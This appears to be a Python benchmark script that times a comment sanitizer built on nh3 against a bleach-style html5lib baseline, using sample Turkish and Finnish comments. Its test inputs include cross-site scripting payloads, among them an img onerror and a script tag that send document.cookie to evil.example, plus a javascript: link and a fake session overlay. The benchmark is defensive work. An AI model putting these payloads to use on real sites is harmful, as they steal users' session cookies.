"""How long meydan.sanitize takes on realistic comments, against a pure-Python baseline.

Run from the repository root:

    .venv/bin/python benchmarks/sanitize.py

It times clean_html and render_plain on 1 KB and 10 KB comments (mostly
ordinary Turkish and Finnish prose with links and lists, plus the hostile
markup a moderator actually sees), and, in the same run, a naive sanitizer
built the way bleach was: html5lib parse, a whitelist filter over the token
stream, html5lib serializer. bleach itself is deprecated and not a dependency;
the baseline exists to show what the pure-Python route costs on this machine.
The whole run is bounded to well under 30 seconds.
"""

import gc
import math
import platform as python_platform
import re
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "platform"))

import html5lib  # noqa: E402
import nh3  # noqa: E402
from html5lib.serializer import HTMLSerializer  # noqa: E402

from meydan.sanitize import ALLOWED_TAGS, LINK_REL, URL_SCHEMES, clean_html, render_plain  # noqa: E402

SECONDS_PER_CASE = 2.0
MAX_CALLS_PER_CASE = 3000
MIN_CALLS_PER_CASE = 30

RICH_BLOCKS = [
    "<p>Mahallemizdeki parkın yeniden düzenlenmesi için önerilen plan bence iyi bir başlangıç. "
    "Özellikle <strong>çocuk oyun alanının</strong> genişletilmesi ve <em>gölgelik</em> eklenmesi gerekiyor.</p>",
    '<p>Belediyenin raporu burada: <a href="https://example.org/raporlar/2024/park-duzenlemesi.pdf">park '
    'raporu</a>. Vertailun vuoksi: <a href="https://example.fi/osallistuva-budjetointi?kaupunki=helsinki&amp;'
    'vuosi=2024">osallistuva budjetointi</a> Helsingissä.</p>',
    "<ul><li>Daha fazla bank ve çöp kutusu</li><li>Bisiklet yolu</li><li>Gece aydınlatması</li></ul>",
    "<blockquote><p>Kent herkesindir; karar süreçleri de öyle olmalı.</p></blockquote>",
    '<p onclick="steal()">Fotoğraflara bakın <img src=x onerror="fetch(\'//evil.example/?c=\'+document.cookie)"></p>',
    "<ol><li>Önce anket</li><li>Sonra <strong>halk toplantısı</strong></li><li>En son oylama</li></ol>",
    '<p>Sorular için <a href="mailto:muhtarlik@example.org">muhtarlığa</a> yazın.<br>Teşekkürler, äänestetään!</p>',
    '<a href="javascript:alert(document.domain)">kampanya</a><script>new Image().src="//evil.example/"+'
    "document.cookie</script>",
    '<div style="position:fixed;inset:0"><span class="notice">Oturumunuz kapandı</span></div><!-- gizli -->',
    "<p>Ayrıca otopark konusunu da konuşmalıyız, çünkü hafta sonları sokaklar tamamen doluyor ve "
    "ambulansların geçmesi zorlaşıyor. Bu konuda bir <em>trafik etüdü</em> yapılmış mı?</p>",
]

PLAIN_BLOCKS = [
    "Mahallemizdeki parkın yeniden düzenlenmesi için önerilen plan bence iyi bir başlangıç.\n",
    "Belediyenin raporu: https://example.org/raporlar/2024/park-duzenlemesi.pdf ve www.example.fi/budjetti\n\n",
    "- Daha fazla bank\n- Bisiklet yolu\n- Gece aydınlatması\n\n",
    "Yazan biri <script>alert(1)</script> denemiş, bir başkası da javascript:alert(1) yazmış.\n",
    "Sorular için muhtarlik@example.org adresine yazın. Kiitos, äänestetään!\n\n",
    "Ayrıca otopark konusunu da konuşmalıyız, çünkü hafta sonları sokaklar tamamen doluyor.\n",
]


def build_comment(blocks: list[str], size: int) -> str:
    """Cycle through `blocks` until the UTF-8 text reaches `size` bytes."""
    parts: list[str] = []
    length = 0
    while length < size:
        block = blocks[len(parts) % len(blocks)]
        parts.append(block)
        length += len(block.encode())
    return "".join(parts)


# --- the baseline: what a pure-Python, bleach-style sanitizer does -------------------------------

_DROP_WITH_CONTENT = {"script", "style"}
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f\s]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
_TREE_WALKER = html5lib.getTreeWalker("etree")
_SERIALIZER = HTMLSerializer(quote_attr_values="always", omit_optional_tags=False)


def _safe_href(value: str) -> bool:
    scheme = _SCHEME.match(_URL_NOISE.sub("", value).lower())
    return scheme is None or scheme.group(1) in URL_SCHEMES


def _whitelist(tokens: Iterator[dict]) -> Iterator[dict]:
    dropping = 0
    for token in tokens:
        kind = token["type"]
        if kind in ("StartTag", "EndTag", "EmptyTag"):
            name = token["name"] if token.get("namespace") in (None, html5lib.constants.namespaces["html"]) else ""
            if name in _DROP_WITH_CONTENT:
                dropping += {"StartTag": 1, "EndTag": -1}.get(kind, 0)
            elif not dropping and name in ALLOWED_TAGS:
                yield _allowed_tag(token)
        elif kind in ("Characters", "SpaceCharacters") and not dropping:
            yield token


def _allowed_tag(token: dict) -> dict:
    if token["type"] == "EndTag":
        return token
    attributes = {}
    if token["name"] == "a":
        href = token["data"].get((None, "href"))
        if href is not None and _safe_href(href):
            attributes[(None, "href")] = href
        attributes[(None, "rel")] = LINK_REL
    return {**token, "data": attributes}


def naive_clean(html: str) -> str:
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return _SERIALIZER.render(_whitelist(_TREE_WALKER(tree)))


# --- measuring ---------------------------------------------------------------------------------


def percentile(sorted_samples: list[float], pct: float) -> float:
    """Nearest-rank percentile."""
    rank = max(1, math.ceil(pct / 100 * len(sorted_samples)))
    return sorted_samples[rank - 1]


def measure(function: Callable[[str], str], text: str) -> tuple[int, float, float]:
    """(calls, p50 µs, p99 µs) of `function(text)`, within the per-case time budget."""
    for _ in range(5):
        function(text)
    gc.collect()
    samples: list[float] = []
    deadline = time.perf_counter() + SECONDS_PER_CASE
    while len(samples) < MAX_CALLS_PER_CASE and (len(samples) < MIN_CALLS_PER_CASE or time.perf_counter() < deadline):
        start = time.perf_counter_ns()
        function(text)
        samples.append((time.perf_counter_ns() - start) / 1000)
    samples.sort()
    return len(samples), percentile(samples, 50), percentile(samples, 99)


def check_baseline_is_comparable(rich: str) -> None:
    """The baseline must do the same job, or the ratio means nothing."""
    output = naive_clean(rich)
    for hostile in ("onerror", "onclick", "<script", "javascript:", "style=", "<img", "<div"):
        assert hostile not in output, f"baseline let {hostile!r} through"
    assert f'rel="{LINK_REL}"' in output and "<strong>" in output and "<blockquote>" in output


def main() -> None:
    sizes = {"1 KB": 1024, "10 KB": 10 * 1024}
    print(
        f"Python {python_platform.python_version()}, nh3 {nh3.__version__}, html5lib {html5lib.__version__}; "
        f"up to {MAX_CALLS_PER_CASE} calls or {SECONDS_PER_CASE:.0f} s per row\n"
    )
    header = f"{'input':<7} {'function':<44} {'bytes':>6} {'calls':>6} {'p50 µs':>10} {'p99 µs':>10}"
    print(header)
    print("-" * len(header))
    ratios = {}
    for label, size in sizes.items():
        rich = build_comment(RICH_BLOCKS, size)
        plain = build_comment(PLAIN_BLOCKS, size)
        check_baseline_is_comparable(rich)
        rows = [
            ("clean_html (nh3 / Ammonia)", clean_html, rich),
            ("baseline: html5lib whitelist (bleach-like)", naive_clean, rich),
            ("render_plain (urlize + nh3)", render_plain, plain),
        ]
        p50s = {}
        for name, function, text in rows:
            calls, p50, p99 = measure(function, text)
            p50s[name] = p50
            print(f"{label:<7} {name:<44} {len(text.encode()):>6} {calls:>6} {p50:>10.1f} {p99:>10.1f}")
        ratios[label] = p50s[rows[1][0]] / p50s[rows[0][0]]
    print()
    for label, ratio in ratios.items():
        print(f"{label}: clean_html is {ratio:.1f}x faster than the html5lib baseline (p50)")


if __name__ == "__main__":
    main()
